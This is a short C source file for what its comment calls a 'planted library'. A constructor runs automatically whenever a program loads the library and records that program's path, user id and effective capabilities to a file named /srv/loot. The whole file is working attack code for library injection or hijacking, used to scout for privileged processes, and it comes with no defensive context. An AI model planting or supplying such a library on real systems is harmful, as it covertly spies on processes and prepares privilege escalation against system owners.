/* A planted library, which notes in /srv/loot the program that has loaded it, and its rights. */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

__attribute__((constructor)) static void note(void)
{
	char program[256] = "", line[512], status[4096] = "", *capabilities;
	int loot = open("/srv/loot", O_WRONLY | O_APPEND), proc = open("/proc/self/status", O_RDONLY);

	readlink("/proc/self/exe", program, sizeof program - 1);
	read(proc, status, sizeof status - 1);
	capabilities = strstr(status, "CapEff:");
	snprintf(line, sizeof line, "%s uid=%d %.24s\n", program, getuid(), capabilities ? capabilities : "");
	write(loot, line, strlen(line));
	close(proc);
	close(loot);
}
